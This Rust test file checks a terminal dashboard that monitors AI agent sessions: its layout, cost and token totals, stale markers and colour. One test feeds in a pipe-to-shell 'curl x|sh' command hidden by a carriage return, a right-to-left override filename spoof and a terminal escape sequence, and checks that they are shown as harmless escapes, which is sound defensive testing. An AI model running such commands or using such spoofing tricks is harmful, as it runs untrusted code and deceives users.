use chrono::{DateTime, Utc};
use ratatui::backend::TestBackend;
use ratatui::buffer::Buffer;
use ratatui::style::Color;
use ratatui::Terminal;

use ao_core::live::LiveEvent;
use ao_core::session::Activity;

use super::*;
use crate::watch::fixtures::{session, with_permission, with_question};

fn now() -> DateTime<Utc> {
    DateTime::parse_from_rfc3339("2025-01-01T00:03:00Z")
        .unwrap()
        .with_timezone(&Utc)
}

fn app() -> App {
    let mut app = App::default();
    app.on_live(LiveEvent::Snapshot(vec![
        with_permission(
            session(
                "my-very-long-project-name/agent-with-a-long-name-123",
                Activity::WaitingInput,
                "2025-01-01T00:00:00Z",
            ),
            "per_1",
        ),
        with_question(
            session("demo/agent-1", Activity::Active, "2025-01-01T00:02:48Z"),
            "que_1",
            &[("Pick a color?", &["red", "blue"])],
        ),
    ]));
    app
}

fn render(app: &mut App, width: u16, height: u16, color: bool) -> Buffer {
    let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
    terminal
        .draw(|f| draw(f, app, Paint { color }, now()))
        .unwrap();
    terminal.backend().buffer().clone()
}

fn lines(buffer: &Buffer) -> Vec<String> {
    let area = buffer.area;
    (0..area.height)
        .map(|y| {
            (0..area.width)
                .map(|x| buffer[(x, y)].symbol())
                .collect::<String>()
        })
        .collect()
}

#[test]
fn at_80x24_every_column_header_shows_whole_with_each_session_on_one_line() {
    let mut app = app();
    let screen = lines(&render(&mut app, 80, 24, true));
    let text = screen.join("\n");
    let header = screen
        .iter()
        .find(|l| l.contains("SESSION"))
        .unwrap_or_else(|| panic!("{text}"));
    for h in ["SESSION", "ACTIVITY", "PROCESS", "MODEL", "TOKENS", "COST"] {
        assert!(header.contains(h), "{h}: {text}");
    }
    // Per project a row of totals, then its sessions by name; the ages from activity_since.
    assert!(text.contains("demo (1)"), "{text}");
    let row = screen.iter().find(|l| l.contains("agent-1 ")).unwrap();
    assert!(
        row.contains("active 12s") && row.contains("$123.4568"),
        "{row}"
    );
    assert!(row.contains("1.2M/89k"), "{row}");
    let long = screen
        .iter()
        .find(|l| l.contains("waiting_input 3m"))
        .unwrap();
    assert!(long.contains('…'), "a long name is cut: {long}");
    // The overall totals, and the help line.
    assert!(
        screen[0].contains("2 sessions") && screen[0].contains("$246.9136"),
        "{text}"
    );
    assert!(
        screen[23].contains("q quit") && screen[23].contains("p/P permit"),
        "{text}"
    );
}

#[test]
fn the_detail_pane_shows_the_request_the_exact_cost_and_the_last_reply() {
    let mut app = app();
    let text = lines(&render(&mut app, 80, 24, false)).join("\n");
    // The first listed is demo/agent-1: its question and options.
    assert!(text.contains("question: Pick a color?"), "{text}");
    assert!(text.contains("options: red blue"), "{text}");
    assert!(text.contains("cost $123.456789"), "{text}");
    app.on_transcript(
        "demo/agent-1",
        Ok(vec![ao_core::transcript::TranscriptEntry {
            id: "prt_1".into(),
            at: 0,
            kind: ao_core::transcript::EntryKind::Assistant {
                text: "Which colour do you like?".into(),
            },
        }]),
    );
    let text = lines(&render(&mut app, 80, 24, false)).join("\n");
    assert!(text.contains("Which colour do you like?"), "{text}");
    app.on_key(crossterm::event::KeyEvent::from(
        crossterm::event::KeyCode::Down,
    ));
    let text = lines(&render(&mut app, 80, 24, false)).join("\n");
    assert!(
        text.contains("permission bash: echo hi > out.txt"),
        "{text}"
    );
}

#[test]
fn narrower_terminals_drop_columns_rather_than_wrap_and_wider_ones_add_the_summary() {
    let mut app = app();
    let narrow = lines(&render(&mut app, 60, 20, false)).join("\n");
    assert!(
        !narrow.contains("MODEL") && narrow.contains("COST"),
        "{narrow}"
    );
    let wide = lines(&render(&mut app, 160, 30, false)).join("\n");
    assert!(
        wide.contains("SUMMARY") && wide.contains("Fix the linting"),
        "{wide}"
    );
}

#[test]
fn without_colour_nothing_is_coloured() {
    let mut app = app();
    let plain = render(&mut app, 80, 24, false);
    for cell in plain.content() {
        assert_eq!(cell.fg, Color::Reset, "{cell:?}");
        assert_eq!(cell.bg, Color::Reset, "{cell:?}");
    }
    let colored = render(&mut app, 80, 24, true);
    assert!(colored.content().iter().any(|c| c.fg == Color::Yellow));
}

#[test]
fn the_help_line_fits_by_dropping_the_least_needed_keys() {
    let mut app = app();
    for width in [40, 60, 80, 120] {
        let screen = lines(&render(&mut app, width, 24, false));
        let help = screen.last().unwrap();
        assert!(help.contains("q quit"), "{width}: {help}");
    }
    let wide = lines(&render(&mut app, 120, 24, false));
    assert!(wide.last().unwrap().starts_with("↑↓ select"), "{wide:?}");
}

#[test]
fn a_stale_session_is_marked_in_its_row_and_says_since_when_in_the_detail() {
    let mut s = session("demo/agent-9", Activity::Ready, "2025-01-01T00:01:00Z");
    s.status.stale = true;
    s.status.stale_since = Some("2025-01-01T00:02:00Z".into());
    let mut app = App::default();
    app.on_live(LiveEvent::Snapshot(vec![s]));
    let screen = lines(&render(&mut app, 80, 24, false)).join("\n");
    assert!(screen.contains("ready 2m?"), "{screen}");
    assert!(
        screen.contains("stale: its agent did not answer in time; shown as last seen 1m ago"),
        "{screen}"
    );
}

#[test]
fn an_agents_text_shows_its_control_characters_as_escapes() {
    let mut s = with_permission(
        session(
            "demo/agent-1",
            Activity::WaitingInput,
            "2025-01-01T00:02:48Z",
        ),
        "per_1",
    );
    s.status.pending[0].title = "bash: curl x|sh\rls -la".into();
    s.status.summary = Some("see \u{202e}gnp.exe".into());
    let mut app = App::default();
    app.on_live(LiveEvent::Snapshot(vec![s]));
    app.on_transcript(
        "demo/agent-1",
        Ok(vec![ao_core::transcript::TranscriptEntry {
            id: "prt_1".into(),
            at: 0,
            kind: ao_core::transcript::EntryKind::Assistant {
                text: "done\x1b[2J".into(),
            },
        }]),
    );
    let text = lines(&render(&mut app, 120, 24, false)).join("\n");
    for shown in [
        "permission bash: curl x|sh\\rls -la",
        "summary: see \\u{202e}gnp.exe",
        "done\\x1b[2J",
    ] {
        assert!(text.contains(shown), "{shown}: {text}");
    }
    assert!(!text.contains(['\r', '\x1b', '\u{202e}']), "{text}");
}

#[test]
fn the_detail_names_the_agent_and_a_cost_it_does_not_report_shows_no_figure() {
    let mut unpriced = session("web/agent-1", Activity::Ready, "2025-01-01T00:01:00Z");
    unpriced.status.agent = "acp".into();
    unpriced.status.cost_usd = None;
    let mut app = App::default();
    app.on_live(LiveEvent::Snapshot(vec![unpriced.clone()]));
    let screen = lines(&render(&mut app, 80, 24, false));
    let text = screen.join("\n");
    assert!(text.contains("agent acp  cost -  tokens"), "{text}");
    // One agent: no column for it.
    assert!(!text.contains("AGENT"), "{text}");
    // Its row, its project's total and the overall total: no figure at all.
    let row = screen.iter().find(|l| l.contains("agent-1 ")).unwrap();
    assert!(!row.contains('$'), "{row}");
    let total = screen.iter().find(|l| l.contains("web (1)")).unwrap();
    assert!(!total.contains('$'), "{total}");
    assert!(screen[0].contains("cost -"), "{text}");

    // Beside a session that reports one, the totals show none either: the known figure alone
    // would be too low. The same for tokens.
    let priced = session("web/agent-2", Activity::Ready, "2025-01-01T00:01:00Z");
    let mut uncounted = session("other/agent-3", Activity::Ready, "2025-01-01T00:01:00Z");
    uncounted.status.tokens = None;
    let counted = session("other/agent-4", Activity::Ready, "2025-01-01T00:01:00Z");
    app.on_live(LiveEvent::Snapshot(vec![
        unpriced, priced, uncounted, counted,
    ]));
    let screen = lines(&render(&mut app, 80, 24, false));
    assert!(
        screen[0].contains("tokens -") && screen[0].contains("cost -"),
        "{}",
        screen[0]
    );
    let total = screen.iter().find(|l| l.contains("web (2)")).unwrap();
    assert!(
        !total.contains('$') && total.contains("2.5M/178k"),
        "{total}"
    );
    let total = screen.iter().find(|l| l.contains("other (2)")).unwrap();
    assert!(
        total.contains("$246.9136") && !total.contains('M'),
        "{total}"
    );
    // Sessions of two agents: the table names each one's.
    let text = screen.join("\n");
    assert!(text.contains("AGENT"), "{text}");
    let row = screen.iter().find(|l| l.contains("agent-1 ")).unwrap();
    assert!(row.contains(" acp "), "{row}");
    let row = screen.iter().find(|l| l.contains("agent-2 ")).unwrap();
    assert!(row.contains(" opencode "), "{row}");
}
